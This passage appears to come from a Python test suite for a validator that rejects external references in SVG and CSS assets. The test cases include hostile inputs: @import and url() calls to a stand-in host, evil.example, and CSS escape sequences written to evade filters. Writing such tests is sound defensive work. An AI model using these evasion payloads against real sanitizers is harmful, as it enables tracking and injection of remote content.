        {_SVG: SVG.format('<use href="https://evil.example/s.svg#a"/>')},
        f"{_SVG}:1",
        "expected only '#id' references",
    ),
    Case(
        "svg-unknown-element",
        {_SVG: SVG.format("\n<feImage href='#a'/>")},
        f"{_SVG}:2",
        "found <feImage>, expected an element a map or an icon needs",
    ),
    Case(
        "css-import",
        {_CSS: "a { color: red; }\n@import url(https://evil.example/x.css);\n"},
        f"{_CSS}:2",
        "found @import",
    ),
    Case("css-escaped-import", {_CSS: "@\\69mport 'x.css';\n"}, f"{_CSS}:1", "found @import"),
    Case(
        "css-escaped-url",
        {_CSS: "p {\n  background: u\\72l(//evil.example/t.png);\n}\n"},
        f"{_CSS}:2",
        "found url('//evil.example/t.png')",
    ),
    Case(
        "css-quoted-url",
        {_CSS: "p { background: url( 'https://evil.example/t.png' ); }\n"},
        f"{_CSS}:1",
        "found url(",
    ),
    Case(
        "css-image-set",
        {_CSS: "p { background: image-set('https://evil.example/t.png' 1x); }\n"},
        f"{_CSS}:1",
        "found image-set()",
    ),
    Case(
        "css-src-number",  # a number in src() was joined as text: a TypeError, a traceback
        {_CSS: "p { background: src(1); }\n"},
        f"{_CSS}:1",
        "found src('1.0')",
    ),
    Case(
        "css-escaped-property",
        {_CSS: "p { b\\61 ckground: red; }\n"},
        f"{_CSS}:1",
        "found an escape in property 'background'",
    ),
    Case(
        "css-font-face",
        {_CSS: "@font-face { font-family: x; src: url(https://evil.example/f.woff2); }\n"},
        f"{_CSS}:1",
        "found @font-face",
    ),
]
